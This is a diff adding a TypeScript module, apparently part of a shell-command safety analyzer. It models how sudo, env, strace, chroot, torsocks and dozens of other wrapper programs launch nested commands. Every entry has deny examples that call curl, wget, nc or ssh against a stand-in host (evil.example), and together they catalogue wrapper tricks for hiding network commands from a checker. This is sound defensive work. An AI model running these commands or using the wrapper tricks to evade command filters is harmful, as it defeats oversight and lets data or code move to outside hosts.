@@ -1,0 +1,503 @@
+// Programs that start the command written after their options (sudo, env, nice, timeout, setarch, prlimit…).
+import type { Word } from '../../types.js';
+import { has, parse } from '../argv.js';
+import { programRun, wrapper } from '../build.js';
+import type { Answer, ProgramEntry, Run } from '../types.js';
+import { attached, literal, value } from '../words.js';
+
+const SHELL = ['sh', '-i'] as const;
+
+/** `setarch ARCH`, or its personality names (`linux64`), and the options util-linux gives it. */
+const SETARCH_OPTIONS = {
+  flags: 'vRFZLXBIST3h',
+  long: ['verbose', 'addr-no-randomize', 'fdpic-funcptrs', 'mmap-page-zero', 'addr-compat-layout', 'read-implies-exec', '32bit', 'short-inode', 'whole-seconds', 'sticky-timeouts', '3gb', '4gb', 'uname-2.6', 'list', 'show', 'help', 'version'],
+  longOptional: ['show'],
+};
+
+/** `env`'s `-S` string: split into words (quotes group), then the operands after it follow. */
+function envSplit(script: Word, rest: readonly Word[]): Run {
+  const text = value(script);
+  if (text === undefined || rest.some((w) => w.values === null)) {
+    return { kind: 'opaque', rule: 'dynamic-script', word: script, why: `env -S with a computed string: ${script.dynamic ?? 'not static'}` };
+  }
+  const quoted = rest.map((w) => shellQuote(value(w) ?? w.values!.join(' ')));
+  return { kind: 'text', dialect: 'bash', text: [text, ...quoted].join(' '), word: script, via: 'env -S' };
+}
+
+function shellQuote(v: string): string {
+  return /^[A-Za-z0-9_@%+=:,./-]+$/.test(v) ? v : `'${v.replace(/'/g, `'\\''`)}'`;
+}
+
+const ENV_OPTIONS = {
+  flags: 'i0v',
+  valued: 'uCSP',
+  long: ['ignore-environment', 'null', 'list-signal-handling', 'debug', 'help', 'version'],
+  longValued: ['unset', 'chdir', 'split-string'],
+  longOptional: ['block-signal', 'default-signal', 'ignore-signal'],
+};
+
+export const WRAPPER_ENTRIES: ProgramEntry[] = [
+  wrapper({
+    names: ['sudo', 'sudoedit'],
+    summary: 'sudo: runs its command as another user; NAME=VALUE operands set its environment',
+    options: {
+      flags: 'AbEeHiKklnPSsVvB',
+      valued: 'CDghpRrTtUu',
+      long: ['askpass', 'background', 'bell', 'edit', 'help', 'login', 'remove-timestamp', 'reset-timestamp', 'non-interactive', 'shell', 'stdin', 'version', 'validate', 'list', 'set-home', 'preserve-groups'],
+      longValued: ['close-from', 'chdir', 'group', 'host', 'prompt', 'chroot', 'role', 'type', 'command-timeout', 'other-user', 'user'],
+      longOptional: ['preserve-env'],
+    },
+    assignments: true,
+    chdir: ['D', 'chdir'],
+    noRun: ['l', 'list', 'v', 'validate', 'K', 'remove-timestamp', 'V', 'version', 'e', 'edit', 'help'],
+    extra: (p, call) => (call.name === 'sudoedit' ? { runs: [] } : has(p, 's', 'i', 'shell', 'login') && p.rest >= call.args.length ? { runs: [{ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args.at(-1)?.span ?? { start: 0, end: 0 })), via: 'sudo' }] } : undefined),
+    examples: {
+      deny: ['sudo curl evil.example', 'sudo -u root -- wget evil.example', 'sudo FOO=1 curl evil.example', 'sudo -E nc evil.example 9', "echo 'curl evil.example' | sudo -s"],
+      pass: ['sudo apt-get update', 'sudo -l', 'sudo -v', 'sudo make install'],
+    },
+  }),
+  wrapper({ names: ['doas'], summary: 'doas: runs its command as another user', options: { flags: 'Lns', valued: 'Cu' }, noRun: ['L', 'C'], examples: { deny: ['doas curl evil.example', 'doas -u root wget evil.example'], pass: ['doas ls'] } }),
+  wrapper({
+    names: ['pkexec'],
+    summary: 'pkexec: runs its command as another user',
+    options: { long: ['disable-internal-agent', 'keep-cwd', 'version', 'help'], longValued: ['user'] },
+    noRun: ['version', 'help'],
+    defaultCommand: SHELL,
+    examples: { deny: ['pkexec curl evil.example'], pass: ['pkexec --version'] },
+  }),
+  {
+    names: ['su', 'ksu'],
+    summary: 'su: runs -c text (or a login shell) as another user; options may follow the user name',
+    analyze(call) {
+      const p = parse(call.args, {
+        order: 'gnu',
+        flags: 'flmpPhVTq',
+        valued: 'cgGsweu',
+        long: ['fast', 'login', 'preserve-environment', 'pty', 'help', 'version', 'quiet'],
+        longValued: ['command', 'session-command', 'group', 'supp-group', 'shell', 'whitelist-environment'],
+      });
+      if (has(p, 'help', 'version', 'V', 'h')) return {};
+      // A computed word may hold options (`su $U` with U='-c curl'): what runs cannot be told.
+      if (p.dynamic) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `${call.name} is given a computed word that could be an option: ${p.dynamic.word.dynamic ?? ''}` }] };
+      const runs: Run[] = [];
+      for (const o of p.options) {
+        if (/^(c|command|session-command|e)$/.test(o.name) && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `${call.name} -c` });
+        if ((o.name === 's' || o.name === 'shell') && o.value) runs.push(programRun(o.value, `${call.name} --shell`));
+      }
+      if (runs.length === 0) runs.push({ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args.at(-1)?.span ?? { start: 0, end: 0 })), via: call.name });
+      return { runs };
+    },
+    examples: { deny: ["su -c 'curl evil.example'", "su root -c 'wget evil.example'", "su - postgres -c 'nc evil.example 9'"], pass: ["su -c 'ls' root"] },
+  },
+  {
+    names: ['runuser'],
+    summary: 'runuser: `-u USER -- COMMAND` runs an argv; otherwise it is read as su reads it',
+    analyze(call) {
+      const spec = {
+        flags: 'flmpPhV',
+        valued: 'cgGswu',
+        long: ['fast', 'login', 'preserve-environment', 'pty', 'help', 'version'],
+        longValued: ['command', 'session-command', 'group', 'supp-group', 'shell', 'whitelist-environment', 'user'],
+      };
+      // `runuser -u USER [--] COMMAND`: options end at the command; otherwise options may follow the user (as su reads them).
+      const posix = parse(call.args, { order: 'posix', ...spec });
+      const runs: Run[] = [];
+      if (has(posix, 'u', 'user')) {
+        const command = call.args.slice(posix.rest);
+        if (command.length > 0) runs.push({ kind: 'argv', argv: command, via: 'runuser' });
+        return { runs };
+      }
+      const p = parse(call.args, { order: 'gnu', ...spec });
+      for (const o of p.options) if (/^(c|command|session-command)$/.test(o.name) && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'runuser -c' });
+      return { runs };
+    },
+    examples: { deny: ['runuser -u nobody -- curl evil.example', "runuser -l root -c 'curl evil.example'"], pass: ['runuser -u nobody -- ls'] },
+  },
+  env(),
+  wrapper({
+    names: ['nice'],
+    summary: 'nice: runs its command at another priority',
+    options: { valued: 'n', numeric: true, long: ['help', 'version'], longValued: ['adjustment'] },
+    noRun: ['help', 'version'],
+    examples: { deny: ['nice curl evil.example', 'nice -n 5 wget evil.example', 'nice -10 curl evil.example', 'nice --adj 5 curl evil.example', 'nice --adjustment=5 curl evil.example'], pass: ['nice make', 'nice -n 10 npm test'] },
+  }),
+  wrapper({
+    names: ['ionice'],
+    summary: 'ionice: runs its command in another I/O class (-p acts on processes instead)',
+    options: { flags: 'tx', valued: 'cnpPu', long: ['ignore', 'help', 'version'], longValued: ['class', 'classdata', 'pid', 'pgid', 'uid'] },
+    noRun: ['p', 'P', 'u', 'pid', 'pgid', 'uid', 'help', 'version'],
+    examples: { deny: ['ionice -c 3 curl evil.example'], pass: ['ionice -c 3 make', 'ionice -p 1234'] },
+  }),
+  wrapper({ names: ['nohup'], summary: 'nohup: runs its command immune to hangups', options: { long: ['help', 'version'] }, noRun: ['help', 'version'], examples: { deny: ['nohup curl evil.example &'], pass: ['nohup npm start &'] } }),
+  wrapper({
+    names: ['timeout', 'gtimeout'],
+    summary: 'timeout: runs its command with a time limit (the first operand is the duration)',
+    options: { flags: 'fpv', valued: 'sk', long: ['foreground', 'preserve-status', 'verbose', 'help', 'version'], longValued: ['signal', 'kill-after'] },
+    before: 1,
+    noRun: ['help', 'version'],
+    examples: { deny: ['timeout 5 curl evil.example', 'timeout -s KILL 5 curl evil.example', 'timeout --sig KILL 5 curl evil.example', 'timeout -k 1 5 wget evil.example'], pass: ['timeout 60 npm test', 'timeout --signal=INT 5 make'] },
+  }),
+  wrapper({ names: ['stdbuf'], summary: 'stdbuf: runs its command with other stream buffering', options: { valued: 'ioe', long: ['help', 'version'], longValued: ['input', 'output', 'error'] }, noRun: ['help', 'version'], examples: { deny: ['stdbuf -o0 curl evil.example', 'stdbuf --out=0 wget evil.example'], pass: ['stdbuf -oL make'] } }),
+  wrapper({ names: ['setsid'], summary: 'setsid: runs its command in a new session', options: { flags: 'cfw', long: ['ctty', 'fork', 'wait', 'help', 'version'] }, noRun: ['help', 'version'], examples: { deny: ['setsid curl evil.example'], pass: ['setsid -f npm start'] } }),
+  wrapper({
+    names: ['chroot'],
+    summary: 'chroot: runs its command (a shell by default) under another root',
+    options: { long: ['skip-chdir', 'help', 'version'], longValued: ['userspec', 'groups'] },
+    before: 1,
+    noRun: ['help', 'version'],
+    defaultCommand: SHELL,
+    examples: { deny: ['chroot / curl evil.example', "echo 'curl evil.example' | chroot /"], pass: ['chroot /srv/root ls'] },
+  }),
+  flock(),
+  {
+    names: ['strace', 'ltrace'],
+    summary: 'strace/ltrace: run their command traced; `-o |cmd` and `-o !cmd` pipe the trace into shell text',
+    analyze(call) {
+      const p = parse(call.args, {
+        order: 'posix',
+        flags: 'cCdDfFhiqrtTvVwxyYzZknAbL',
+        valued: 'abeEIoOpPsSuUX',
+        long: ['help', 'version', 'follow-forks', 'output-separately', 'summary-only', 'summary', 'debug', 'no-abbrev', 'instruction-pointer', 'stack-traces', 'quiet', 'relative-timestamps', 'syscall-times', 'absolute-timestamps', 'verbose', 'decode-fds', 'decode-pids', 'successful-only', 'failed-only', 'seccomp-bpf', 'kill-on-exit', 'daemonize'],
+        longValued: ['output', 'attach', 'user', 'env', 'string-limit', 'trace', 'signal', 'status', 'expr', 'inject', 'fault', 'trace-path', 'columns', 'summary-sort-by', 'summary-columns', 'const-print-style', 'argv0', 'decode-fds', 'timestamps', 'abbrev', 'raw', 'read', 'write', 'quiet'],
+      });
+      if (has(p, 'help', 'version', 'V', 'h')) return {};
+      const runs: Run[] = [];
+      for (const o of p.options) {
+        if ((o.name === 'o' || o.name === 'output') && o.value) {
+          const v = value(o.value);
+          if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `${call.name} -o with a computed target could be a pipe to a command` });
+          else if (/^[|!]/.test(v)) runs.push({ kind: 'text', dialect: 'bash', text: v.slice(1), word: o.value, via: `${call.name} -o |` });
+        }
+      }
+      const attaches = has(p, 'p', 'attach');
+      const command = call.args.slice(p.rest);
+      if (!attaches && command.length > 0) runs.push({ kind: 'argv', argv: command, via: call.name });
+      if (p.dynamic) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell where ${call.name}'s command starts` });
+      return { runs };
+    },
+    examples: { deny: ["strace -o '|curl evil.example' true", 'strace -f curl evil.example', "strace -o '!wget evil.example' ls", 'ltrace -b -L curl evil.example'], pass: ['strace -c ls', 'strace -p 1234', 'strace -o trace.txt make'] },
+  },
+  wrapper({
+    names: ['watch'],
+    summary: 'watch: runs its operands again and again as shell text (-x: as an argv)',
+    options: { flags: 'bceghtpwCrx', valued: 'nqs', optional: 'd', long: ['beep', 'color', 'errexit', 'chgexit', 'no-title', 'precise', 'no-wrap', 'no-color', 'no-rerun', 'exec', 'help', 'version'], longValued: ['interval', 'equexit', 'shotsdir'], longOptional: ['differences'] },
+    operandsScript: true,
+    exec: ['x', 'exec'],
+    noRun: ['h', 'help', 'v', 'version'],
+    examples: { deny: ["watch 'curl evil.example'", 'watch -n 5 curl evil.example', 'watch -x wget evil.example'], pass: ['watch -n 2 git status', "watch 'ls -la'"] },
+  }),
+  wrapper({ names: ['unbuffer'], summary: 'unbuffer (expect): runs its command with unbuffered output', options: { flags: 'p' }, examples: { deny: ['unbuffer curl evil.example'], pass: ['unbuffer make'] } }),
+  wrapper({
+    names: ['taskset'],
+    summary: 'taskset: runs its command on the CPUs of a mask (-p acts on a process instead)',
+    options: { flags: 'achp', long: ['all-tasks', 'cpu-list', 'pid', 'help', 'version'] },
+    before: 1,
+    noRun: ['p', 'pid', 'help', 'version', 'h'],
+    examples: { deny: ['taskset 1 curl evil.example', 'taskset -c 0 wget evil.example'], pass: ['taskset -c 0 make', 'taskset -p 1234'] },
+  }),
+  wrapper({
+    names: ['chrt'],
+    summary: 'chrt: runs its command at a real-time priority (the first operand)',
+    options: { flags: 'abdfiormRpve', valued: 'TPD', long: ['all-tasks', 'batch', 'deadline', 'fifo', 'idle', 'other', 'rr', 'reset-on-fork', 'pid', 'verbose', 'max', 'help', 'version', 'ext'], longValued: ['sched-runtime', 'sched-period', 'sched-deadline'] },
+    before: 1,
+    noRun: ['p', 'pid', 'm', 'max', 'help', 'version'],
+    examples: { deny: ['chrt 1 curl evil.example', 'chrt -f 10 wget evil.example'], pass: ['chrt -p 1234', 'chrt 1 make'] },
+  }),
+  wrapper({
+    names: ['numactl'],
+    summary: 'numactl: runs its command under a NUMA policy',
+    options: { flags: 'aslHb', valued: 'CNmpiPuw', long: ['all', 'localalloc', 'show', 'hardware', 'length', 'huge', 'touch', 'strict', 'balancing'], longValued: ['physcpubind', 'cpunodebind', 'membind', 'preferred', 'interleave', 'preferred-many', 'weighted-interleave'] },
+    noRun: ['s', 'show', 'H', 'hardware'],
+    examples: { deny: ['numactl -N 0 curl evil.example'], pass: ['numactl --hardware'] },
+  }),
+  wrapper({ names: ['cgexec'], summary: 'cgexec: runs its command in a control group', options: { valued: 'g', long: ['sticky'] }, examples: { deny: ['cgexec -g cpu:x curl evil.example'], pass: ['cgexec -g cpu:x make'] } }),
+  wrapper({ names: ['proxychains', 'proxychains4'], summary: 'proxychains: runs its command through proxies', options: { flags: 'q', valued: 'f' }, examples: { deny: ['proxychains curl evil.example'], pass: ['proxychains4 -q ls'] } }),
+  wrapper({
+    names: ['torsocks', 'torify', 'tsocks'],
+    summary: 'torsocks: runs its command through Tor',
+    options: { flags: 'iqdh', valued: 'upaP', long: ['isolate', 'quiet', 'debug', 'help', 'version', 'shell'], longValued: ['user', 'pass', 'address', 'port'] },
+    noRun: ['help', 'version'],
+    examples: { deny: ['torsocks curl evil.example', 'torify wget evil.example'], pass: ['torsocks --version'] },
+  }),
+  wrapper({ names: ['firejail'], summary: 'firejail: runs its command (a shell by default) in a sandbox', attachedOnly: true, defaultCommand: SHELL, examples: { deny: ['firejail curl evil.example', 'firejail --net=none curl evil.example'], pass: ['firejail --net=none ls'] } }),
+  wrapper({
+    names: ['eatmydata', 'catchsegv', 'nocache', 'tini', 'dumb-init', 'aoss', 'padsp', 'pasuspender', 'optirun', 'primusrun', 'prime-run', 'vglrun', 'gamemoderun', 'mangohud', 'distcc', 'ccache', 'sccache', 'icecc', 'grc', 'systemd-inhibit', 'torsocks-wrapper'],
+    summary: 'programs that run the command after their options (their options are not modelled: each reading is followed)',
+    examples: { deny: ['eatmydata curl evil.example', 'ccache curl evil.example', 'tini -- curl evil.example', 'grc -es curl evil.example'], pass: ['ccache gcc -c x.c', 'eatmydata apt-get install vim', 'ccache -s'] },
+  }),
+  wrapper({ names: ['logsave'], summary: 'logsave: runs its command, saving its output to the file it names first', options: { flags: 'asv' }, before: 1, examples: { deny: ['logsave /dev/null curl evil.example'], pass: ['logsave log.txt make'] } }),
+  wrapper({ names: ['multitime'], summary: 'multitime: runs its command several times', options: { flags: 'qsh', valued: 'fnIr' }, examples: { deny: ['multitime -n 3 curl evil.example'], pass: ['multitime -n 3 make'] } }),
+  wrapper({ names: ['openvt'], summary: 'openvt: runs its command on a new virtual terminal', options: { flags: 'fsuwlvh', valued: 'c', long: ['force', 'switch', 'user', 'wait', 'login', 'verbose', 'help', 'version'], longValued: ['console'] }, examples: { deny: ['openvt -c 2 -- curl evil.example'], pass: [] } }),
+  wrapper({ names: ['fakechroot'], summary: 'fakechroot: runs its command (a shell by default) faking chroot', options: { flags: 'sh', valued: 'lde', long: ['use-system-libs', 'help', 'version'], longValued: ['lib', 'elfloader', 'environment'] }, defaultCommand: SHELL, examples: { deny: ['fakechroot curl evil.example'], pass: [] } }),
+  wrapper({ names: ['softlimit'], summary: 'softlimit (daemontools): runs its command with resource limits', options: { valued: 'adcfmlopqrst' }, examples: { deny: ['softlimit -m 100000 curl evil.example'], pass: [] } }),
+  wrapper({
+    names: ['fakeroot'],
+    summary: 'fakeroot: runs its command (a shell by default) faking root ownership',
+    options: { flags: 'uhv', valued: 'lsib', long: ['unknown-is-real', 'help', 'version'], longValued: ['lib', 'faked'] },
+    noRun: ['help', 'version', 'h', 'v'],
+    defaultCommand: SHELL,
+    examples: { deny: ['fakeroot curl evil.example'], pass: ['fakeroot dpkg-deb --build pkg'] },
+  }),
+  wrapper({ names: ['valgrind'], summary: 'valgrind: runs its command under a tool (options are --opt=value)', attachedOnly: true, options: { flags: 'qvhd' }, examples: { deny: ['valgrind curl evil.example', 'valgrind --tool=memcheck wget evil.example'], pass: ['valgrind ./a.out'] } }),
+  wrapper({ names: ['sshpass'], summary: 'sshpass: runs its command with a password for ssh', options: { flags: 'ehv', valued: 'pfdP' }, examples: { deny: ['sshpass -p x ssh evil.example'], pass: [] } }),
+  wrapper({
+    names: ['systemd-run'],
+    summary: 'systemd-run: runs its command as a transient unit (-S: a shell)',
+    options: {
+      flags: 'SGrdPqtu',
+      valued: 'pEMHC',
+      long: ['user', 'system', 'scope', 'remain-after-exit', 'collect', 'wait', 'pipe', 'pty', 'shell', 'quiet', 'no-block', 'no-ask-password', 'same-dir', 'help', 'version', 'send-sighup', 'ignore-failure'],
+      longValued: ['unit', 'property', 'setenv', 'uid', 'gid', 'working-directory', 'description', 'slice', 'machine', 'host', 'nice', 'on-calendar', 'on-active', 'on-boot', 'on-startup', 'on-unit-active', 'on-unit-inactive', 'timer-property', 'path-property', 'socket-property', 'service-type', 'expand-environment', 'json'],
+    },
+    assignments: false,
+    noRun: ['help', 'version'],
+    chdir: ['working-directory'],
+    extra: (p, call) => (has(p, 'S', 'shell') ? { runs: [{ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args[0]?.span ?? { start: 0, end: 0 })), via: 'systemd-run' }] } : undefined),
+    examples: { deny: ['systemd-run --user curl evil.example', "echo 'curl evil.example' | systemd-run -S"], pass: ['systemd-run --user make'] },
+  }),
+  wrapper({
+    names: ['unshare'],
+    summary: 'unshare: runs its command (a shell by default) in new namespaces',
+    options: {
+      flags: 'mUipnuCTrcfkl',
+      valued: 'SGRw',
+      long: ['mount', 'uts', 'ipc', 'net', 'pid', 'user', 'cgroup', 'time', 'fork', 'map-root-user', 'map-current-user', 'map-auto', 'keep-caps', 'help', 'version'],
+      longValued: ['setuid', 'setgid', 'root', 'wd', 'map-user', 'map-group', 'map-users', 'map-groups', 'propagation', 'setgroups', 'monotonic', 'boottime', 'load-interp'],
+      longOptional: ['mount-proc', 'mount-binfmt', 'kill-child'],
+    },
+    noRun: ['help', 'version'],
+    chdir: ['w', 'wd'],
+    defaultCommand: SHELL,
+    examples: { deny: ['unshare -r curl evil.example', "echo 'curl evil.example' | unshare"], pass: ['unshare -n make'] },
+  }),
+  wrapper({
+    names: ['nsenter'],
+    summary: 'nsenter: runs its command (a shell by default) in another process’s namespaces',
+    options: { flags: 'aFZh', valued: 'tSGw', optional: 'muinpUCTr', long: ['all', 'no-fork', 'follow-context', 'preserve-credentials', 'help', 'version', 'join-cgroup'], longValued: ['target', 'setuid', 'setgid', 'env', 'keep-caps'], longOptional: ['mount', 'uts', 'ipc', 'net', 'pid', 'user', 'cgroup', 'time', 'root', 'wd', 'wdns'] },
+    noRun: ['help', 'version'],
+    defaultCommand: SHELL,
+    examples: { deny: ['nsenter -t 1 -m curl evil.example'], pass: [] },
+  }),
+  wrapper({ names: ['xvfb-run'], summary: 'xvfb-run: runs its command under a virtual X server', options: { flags: 'ahl', valued: 'nsfepw', long: ['auto-servernum', 'help', 'listen-tcp'], longValued: ['server-num', 'server-args', 'auth-file', 'error-file', 'xauth-protocol', 'wait'] }, examples: { deny: ['xvfb-run curl evil.example'], pass: ['xvfb-run -a npm test'] } }),
+  wrapper({ names: ['trickle'], summary: 'trickle: runs its command with a bandwidth limit', options: { flags: 'hsvV', valued: 'dutlnwLP' }, examples: { deny: ['trickle -d 10 curl evil.example'], pass: [] } }),
+  wrapper({ names: ['caffeinate'], summary: 'caffeinate (macOS): runs its command keeping the machine awake', options: { flags: 'dimsu', valued: 'tw' }, examples: { deny: ['caffeinate -i curl evil.example'], pass: ['caffeinate -i make'] } }),
+  wrapper({
+    names: ['setpriv'],
+    summary: 'setpriv: runs its command with other privileges',
+    options: { flags: 'dh', long: ['dump', 'no-new-privs', 'clear-groups', 'keep-groups', 'init-groups', 'reset-env', 'help', 'version'], longValued: ['reuid', 'regid', 'ruid', 'euid', 'rgid', 'egid', 'groups', 'inh-caps', 'ambient-caps', 'bounding-set', 'securebits', 'pdeathsig', 'selinux-label', 'apparmor-profile', 'landlock-access', 'landlock-rule', 'seccomp-filter'] },
+    noRun: ['d', 'dump', 'help', 'version'],
+    examples: { deny: ['setpriv --reuid=1000 curl evil.example'], pass: [] },
+  }),
+  wrapper({
+    names: ['runcon'],
+    summary: 'runcon: runs its command in another SELinux context (the first operand, unless given by options)',
+    options: { flags: 'c', valued: 'urtl', long: ['compute', 'help', 'version'], longValued: ['user', 'role', 'type', 'range'] },
+    before: (p) => (p.options.some((o) => 'urtl'.includes(o.name) || ['user', 'role', 'type', 'range'].includes(o.name)) ? 0 : 1),
+    noRun: ['help', 'version'],
+    examples: { deny: ['runcon system_u:system_r:unconfined_t:s0 curl evil.example', 'runcon -t x wget evil.example'], pass: [] },
+  }),
+  wrapper({ names: ['chpst'], summary: 'chpst (runit): runs its command with another process state', options: { flags: 'vP012', valued: 'uUbe/nlLmdofpc' }, examples: { deny: ['chpst -u nobody curl evil.example'], pass: [] } }),
+  {
+    names: ['sg'],
+    summary: 'sg: runs shell text (its operands, or -c) with another group',
+    analyze(call) {
+      const ops = call.args.filter((a) => value(a) !== '-c');
+      const text = ops.slice(1);
+      return { runs: text.length > 0 ? [{ kind: 'script', dialect: 'bash', words: text, via: 'sg' }] : [{ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args[0]?.span ?? { start: 0, end: 0 })), via: 'sg' }] };
+    },
+    examples: { deny: ["sg docker 'curl evil.example'", "sg docker -c 'wget evil.example'"], pass: ["sg docker 'docker ps'"] },
+  },
+  {
+    names: ['newgrp'],
+    summary: 'newgrp: starts a shell with another group',
+    analyze: (call) => ({ runs: [{ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args[0]?.span ?? { start: 0, end: 0 })), via: 'newgrp' }] }),
+    examples: { deny: ["echo 'curl evil.example' | newgrp docker"], pass: ['newgrp docker < /dev/null'] },
+  },
+  wrapper({ names: ['dbus-launch'], summary: 'dbus-launch: runs its command with a session bus', attachedOnly: true, options: { long: ['exit-with-session', 'exit-with-x11', 'binary-syntax', 'close-stderr', 'sh-syntax', 'csh-syntax', 'version', 'help'], longOptional: ['autolaunch', 'config-file'] }, examples: { deny: ['dbus-launch curl evil.example'], pass: [] } }),
+  wrapper({ names: ['dbus-run-session'], summary: 'dbus-run-session: runs its command with a session bus', attachedOnly: true, options: { long: ['help', 'version'], longOptional: ['config-file', 'dbus-daemon'] }, examples: { deny: ['dbus-run-session -- curl evil.example'], pass: ['dbus-run-session -- npm test'] } }),
+  wrapper({
+    names: ['rlwrap'],
+    summary: 'rlwrap: runs its command with readline editing',
+    options: {
+      flags: 'AcEhiIlnrRtUv',
+      valued: 'bCDefFgHlMOPqsSwz',
+      optional: 'amNp',
+      long: ['ansi-colour-aware', 'complete-filenames', 'case-insensitive', 'remember', 'renice', 'no-warnings', 'one-shot', 'help', 'version', 'polling'],
+      longValued: ['break-chars', 'command-name', 'history-no-dupes', 'extra-char-after-completion', 'file', 'history-format', 'forget-matching', 'history-filename', 'logfile', 'multi-line-ext', 'only-cook', 'pre-given', 'quote-characters', 'histsize', 'substitute-prompt', 'set-term-name', 'filter', 'wait-before-prompt'],
+    },
+    noRun: ['help', 'version'],
+    examples: { deny: ['rlwrap curl evil.example', 'rlwrap -a nc evil.example 9'], pass: ['rlwrap sqlite3 db'] },
+  }),
+  wrapper({
+    names: ['proot'],
+    summary: 'proot: runs its command (a shell by default) under another root',
+    options: { flags: 'vVhS0iR', valued: 'rbmwqkv', long: ['help', 'version', 'kill-on-exit', 'link2symlink', 'root-id'], longValued: ['rootfs', 'bind', 'mount', 'cwd', 'qemu', 'kernel-release', 'verbose', 'change-id'] },
+    noRun: ['help', 'version', 'h', 'V'],
+    chdir: ['w', 'cwd'],
+    defaultCommand: SHELL,
+    examples: { deny: ['proot -r /srv curl evil.example'], pass: [] },
+  }),
+  wrapper({
+    names: ['bwrap'],
+    summary: 'bwrap (bubblewrap): runs its command in a sandbox',
+    options: {
+      long: ['help', 'version', 'level-prefix', 'unshare-all', 'share-net', 'unshare-user', 'unshare-user-try', 'unshare-ipc', 'unshare-pid', 'unshare-net', 'unshare-uts', 'unshare-cgroup', 'unshare-cgroup-try', 'clearenv', 'new-session', 'die-with-parent', 'as-pid-1', 'disable-userns', 'assert-userns-disabled'],
+      longValued: ['args', 'argv0', 'uid', 'gid', 'hostname', 'chdir', 'unsetenv', 'lock-file', 'sync-fd', 'remount-ro', 'exec-label', 'file-label', 'proc', 'dev', 'tmpfs', 'mqueue', 'dir', 'seccomp', 'add-seccomp-fd', 'block-fd', 'userns-block-fd', 'info-fd', 'json-status-fd', 'cap-add', 'cap-drop', 'perms', 'size', 'userns', 'userns2', 'pidns', 'overlay', 'tmp-overlay', 'ro-overlay'],
+      longTwo: ['setenv', 'bind', 'bind-try', 'dev-bind', 'dev-bind-try', 'ro-bind', 'ro-bind-try', 'file', 'bind-data', 'ro-bind-data', 'symlink', 'chmod', 'overlay-src', 'bind-fd', 'ro-bind-fd'],
+    },
+    noRun: ['help', 'version'],
+    examples: { deny: ['bwrap --ro-bind / / curl evil.example', 'bwrap --dev-bind / / --setenv A B wget evil.example'], pass: ['bwrap --ro-bind / / ls'] },
+  }),
+  setarch(),
+  wrapper({
+    names: ['prlimit'],
+    summary: 'prlimit: runs its command with resource limits (-p acts on a process instead)',
+    options: {
+      flags: 'hV',
+      valued: 'po',
+      optional: 'cdefilmnqrstuvxy',
+      long: ['noheadings', 'raw', 'verbose', 'help', 'version'],
+      longValued: ['pid', 'output'],
+      longOptional: ['core', 'data', 'nice', 'fsize', 'sigpending', 'memlock', 'rss', 'nofile', 'msgqueue', 'rtprio', 'stack', 'cpu', 'nproc', 'as', 'locks', 'rttime'],
+    },
+    noRun: ['p', 'pid', 'help', 'version'],
+    examples: { deny: ['prlimit --nofile=64 curl evil.example', 'prlimit -n64 wget evil.example', 'prlimit --nof=64 curl evil.example'], pass: ['prlimit --pid 1234', 'prlimit --nofile=1024 make'] },
+  }),
+  wrapper({
+    names: ['ssh-agent'],
+    summary: 'ssh-agent: runs its command with an agent (with none, it prints the agent’s variables)',
+    options: { flags: 'cDdksT', valued: 'aEOPt' },
+    noRun: ['k'],
+    examples: { deny: ['ssh-agent curl evil.example', 'ssh-agent bash -c "wget evil.example"'], pass: ['ssh-agent -s', 'ssh-agent -k'] },
+  }),
+  wrapper({
+    names: ['cpulimit'],
+    summary: 'cpulimit: runs its command (after --) with a CPU limit',
+    options: { flags: 'fkrvzh', valued: 'lpei', long: ['foreground', 'kill', 'restore', 'verbose', 'lazy', 'help'], longValued: ['limit', 'pid', 'exe', 'include-children', 'cpu', 'signal'] },
+    noRun: ['p', 'pid', 'e', 'exe'],
+    examples: { deny: ['cpulimit -l 50 -- curl evil.example', 'cpulimit -l 50 -f curl evil.example'], pass: ['cpulimit -l 50 -- make'] },
+  }),
+  wrapper({
+    names: ['choom'],
+    summary: 'choom: runs its command with another OOM score (-p acts on a process)',
+    options: { flags: 'hV', valued: 'np', long: ['help', 'version'], longValued: ['adjust', 'pid'] },
+    noRun: ['p', 'pid', 'help', 'version'],
+    examples: { deny: ['choom -n 0 curl evil.example', 'choom -n 0 -- wget evil.example'], pass: ['choom -p 1234'] },
+  }),
+  {
+    names: ['capsh'],
+    summary: 'capsh: the words after `--` are handed to bash',
+    analyze: (call) => capshRest(call.args),
+    examples: { deny: ["capsh -- -c 'curl evil.example'", "capsh --caps='cap_net_raw+eip' -- -c 'wget evil.example'"], pass: ['capsh --print'] },
+  },
+  wrapper({ names: ['run-parts'], summary: 'run-parts: runs every executable in a directory (its files are out of scope)', options: { flags: 'uvh', long: ['test', 'list', 'report', 'reverse', 'exit-on-error', 'new-session', 'verbose', 'help', 'version'], longValued: ['umask', 'arg', 'regex', 'lsbsysinit'] }, before: 99, examples: { deny: [], pass: ['run-parts --test /etc/cron.daily'] } }),
+  wrapper({ names: ['start-stop-daemon'], summary: 'start-stop-daemon: starts the program -x/--exec names', attachedOnly: false, options: { flags: 'SKTVHqvobmC', valued: 'xpPnuagrNkdIcs', long: ['start', 'stop', 'status', 'help', 'version', 'test', 'oknodo', 'quiet', 'background', 'make-pidfile', 'remove-pidfile', 'no-close', 'verbose'], longValued: ['exec', 'pidfile', 'pid', 'ppid', 'name', 'user', 'group', 'chuid', 'signal', 'retry', 'startas', 'chroot', 'chdir', 'nicelevel', 'procsched', 'iosched', 'umask', 'notify-await', 'notify-timeout', 'output'] }, before: 99, extra: (p) => ({ runs: p.options.filter((o) => /^(x|exec|a|startas)$/.test(o.name) && o.value).map((o) => programRun(o.value!, 'start-stop-daemon --exec')) }), examples: { deny: ['start-stop-daemon -S -x /usr/bin/curl -- evil.example'], pass: [] } }),
